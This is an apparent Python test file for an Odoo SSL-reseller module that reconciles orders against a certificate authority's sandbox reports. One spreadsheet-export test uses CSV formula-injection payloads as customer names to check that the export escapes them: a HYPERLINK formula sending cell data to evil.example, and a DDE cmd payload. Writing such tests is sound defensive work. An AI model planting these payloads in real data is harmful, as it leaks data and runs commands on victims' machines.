import base64
import calendar
import csv
import io
from datetime import date, datetime, timedelta

from odoo import fields
from odoo.exceptions import UserError

from .common import unique_domain
from .test_ca_charges import POSITIVESSL_COST, CaChargeCase


class TestCaReconciliation(CaChargeCase):
    """Odoo's books against the sandbox's WebHostReport. Each test plants its orders in a month
    of its own in the past, so that the session's other orders (placed today) stay out of it."""

    def _plant(self, order, month):
        """Date the order in `month` on both sides, as if it had been placed then."""
        placed = datetime(month.year, month.month, 10, 12, 0, 0)
        self.sandbox.move_placement(order.ca_order_number, calendar.timegm(placed.timetuple()))
        order.placed_at = fields.Datetime.to_string(placed)

    def _reconcile(self, month, **run_options):
        last_day = (month.replace(day=28) + timedelta(days=4)).replace(day=1) - timedelta(days=1)
        reconciliation = self.env['comodo.reconciliation'].create({
            'company_id': self.company.id, 'date_from': fields.Date.to_string(month),
            'date_to': fields.Date.to_string(last_day)})
        reconciliation._run(**run_options)
        return reconciliation

    def test_clean_month_finds_nothing_over_several_report_pages(self):
        month = date(2011, 1, 1)
        issued = self._buy(unique_domain('instant')) | self._buy(unique_domain('instant'))
        refunded = self._buy(unique_domain('www'))
        self.sandbox.reject(refunded.ca_order_number)
        refunded.action_check()
        self.assertEqual(refunded.ca_charge_ids.refund_state, 'refunded')
        for order in issued | refunded:
            self._plant(order, month)
        self.sandbox.reset_calls()
        reconciliation = self._reconcile(month, page_size=2)
        self.assertEqual(reconciliation.state, 'done')
        self.assertEqual((reconciliation.ca_order_count, reconciliation.odoo_order_count), (3, 3))
        self.assertFalse(reconciliation.line_ids)
        reports = [call for call in self.sandbox.calls() if call['action'] == 'WebHostReport']
        self.assertEqual(len(reports), 2, 'three orders, two to a page')

    def test_every_mismatch_kind_is_found_and_exported(self):
        month = date(2011, 2, 1)
        placed = calendar.timegm(datetime(2011, 2, 3).timetuple())
        unseen = str(self.sandbox.place_unseen(unique_domain('never'), placedAt=placed)['orderNumber'])
        cost_changed = self._buy(unique_domain('instant'))
        self.sandbox.set_cost(cost_changed.ca_order_number, '15.00')
        refunded_at_ca = self._buy(unique_domain('never'))
        with self.company._comodo_client() as client:
            client.refund(refunded_at_ca.ca_order_number)
        credited = self._buy(unique_domain('never'))
        credited._cancel_billing('Credited by hand')
        for order in cost_changed | refunded_at_ca | credited:
            self._plant(order, month)
        never_placed = self._buy(unique_domain('nocredit'))
        self.assertEqual((never_placed.state, never_placed.invoice_ids.state), ('error', 'draft'))
        self.env.cr.execute('UPDATE comodo_certificate_order SET create_date = %s WHERE id = %s',
                            ('2011-02-20 09:00:00', never_placed.id))
        never_placed.invalidate_cache()

        reconciliation = self._reconcile(month)
        found = {(line.kind, line.ca_order_number or line.order_id.name)
                 for line in reconciliation.line_ids}
        self.assertEqual(found, {
            ('unknown_to_odoo', unseen),
            ('cost_differs', cost_changed.ca_order_number),
            ('cost_differs', refunded_at_ca.ca_order_number),
            ('refunded_still_billed', refunded_at_ca.ca_order_number),
            ('credited_not_refunded', credited.ca_order_number),
            ('no_ca_order', never_placed.name),
        })
        lines = {(line.kind, line.ca_order_number): line for line in reconciliation.line_ids}
        changed = lines['cost_differs', cost_changed.ca_order_number]
        self.assertEqual((changed.ca_cost, changed.odoo_cost), (15.0, POSITIVESSL_COST))
        self.assertEqual(changed.order_id, cost_changed)
        self.assertEqual(lines['refunded_still_billed', refunded_at_ca.ca_order_number].invoice_id,
                         refunded_at_ca.invoice_ids)
        self.assertTrue(lines['refunded_still_billed', refunded_at_ca.ca_order_number].action_open_invoice())

        csv_text = self._exported(reconciliation)
        self.assertEqual(len(csv_text.splitlines()), 1 + 6)
        self.assertIn('"Ordered at the CA, unknown to Odoo",%s,' % unseen, csv_text)
        self.assertIn('no customer invoice, no vendor bill line', lines['unknown_to_odoo', unseen].note)

        # The fix for a charge Odoo never booked: the CA's cost on the vendor bill of its day.
        fix = lines['unknown_to_odoo', unseen]
        fix.action_book_vendor_line()
        self.assertTrue(fix.fixed)
        with self.assertRaises(UserError), self.cr.savepoint():
            fix.action_book_vendor_line()
        charge = self.env['comodo.ca.charge'].search([('ca_order_number', '=', unseen)])
        self.assertEqual((charge.amount, charge.charged_on), (POSITIVESSL_COST, '2011-02-03'))
        self.assertEqual((charge.bill_id.partner_id, charge.bill_id.date_invoice), (self.vendor, '2011-02-03'))
        self.assertIn(unseen, charge.bill_line_id.name)
        reconciliation._run()
        found = {(line.kind, line.ca_order_number) for line in reconciliation.line_ids}
        self.assertNotIn(('unknown_to_odoo', unseen), found)
        self.assertIn(('not_invoiced', unseen), found, 'booked, and still invoiced to nobody')
        self.assertEqual(len(reconciliation.line_ids), 6)

    def test_an_order_unknown_to_odoo_is_one_mismatch(self):
        month = date(2011, 4, 1)
        placed = calendar.timegm(datetime(2011, 4, 5).timetuple())
        unseen = str(self.sandbox.place_unseen(unique_domain('never'), placedAt=placed)['orderNumber'])
        reconciliation = self._reconcile(month)
        self.assertEqual([(line.kind, line.ca_order_number) for line in reconciliation.line_ids],
                         [('unknown_to_odoo', unseen)])
        self.assertEqual(reconciliation.line_ids.ca_cost, POSITIVESSL_COST)

    def test_a_new_reconciliation_compares_this_month(self):
        today = fields.Date.from_string(fields.Date.context_today(self.env.user))
        reconciliation = self.env['comodo.reconciliation'].create({})
        next_month = (today.replace(day=28) + timedelta(days=4)).replace(day=1)
        self.assertEqual((reconciliation.date_from, reconciliation.date_to),
                         (fields.Date.to_string(today.replace(day=1)),
                          fields.Date.to_string(next_month - timedelta(days=1))))

    def test_the_export_opens_as_text_in_a_spreadsheet(self):
        # Customer names are typed by anyone (a portal sign-up, an import); a spreadsheet would run
        # a cell starting with = + - @ (or a tab or CR it trims) as a formula.
        month = date(2011, 3, 1)
        names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3',
                 '@SUM(1,2)', '\t=1+1', '\r=1+1']
        orders = self.env['comodo.certificate.order']
        for name in names:
            self.customer = self.env['res.partner'].create({'name': name, 'email': 'formula@example.com'})
            self._subscribe(self.customer, self.plan)
            order = self._buy(unique_domain('never'))
            order._cancel_billing('Credited by hand')
            self._plant(order, month)
            orders |= order
        rows = list(csv.DictReader(io.StringIO(self._exported(self._reconcile(month)))))
        self.assertEqual(sorted(row['Customer'] for row in rows), sorted("'" + name for name in names))
        self.assertEqual({row['Certificate Order'] for row in rows}, set(orders.mapped('name')),
                         'our own text as it is')
        for row in rows:
            self.assertEqual((row['CA Cost'], row['Odoo Cost']), ('12.50', '12.50'), 'amounts stay numbers')

    def _exported(self, reconciliation):
        action = reconciliation.action_export_csv()
        attachment = self.env['ir.attachment'].browse(int(action['url'].split('/')[3].split('?')[0]))
        return base64.b64decode(attachment.datas).decode('utf-8')

    def test_monthly_run_mails_the_accountants(self):
        accountant = self.env['res.users'].create({
            'name': 'Accountant', 'login': 'ca-accountant', 'email': 'accountant@example.com',
            'groups_id': [(6, 0, [self.env.ref('account.group_account_manager').id])]})
        self.env.ref('comodo_ssl_reseller.ir_cron_reconcile_last_month').method_direct_trigger()
        reconciliation = self.env['comodo.reconciliation'].search(
            [('company_id', '=', self.company.id)], limit=1)
        today = date.today()
        last_month_end = today.replace(day=1) - timedelta(days=1)
        self.assertEqual((reconciliation.date_from, reconciliation.date_to),
                         (fields.Date.to_string(last_month_end.replace(day=1)), fields.Date.to_string(last_month_end)))
        self.assertEqual(reconciliation.state, 'done')
        mail = self.env['mail.mail'].search([('model', '=', 'comodo.reconciliation'),
                                             ('res_id', '=', reconciliation.id)])
        self.assertEqual(len(mail), 1)
        self.assertIn(accountant.partner_id, mail.recipient_ids)
        self.assertIn('mismatch(es) with the CA', mail.subject)
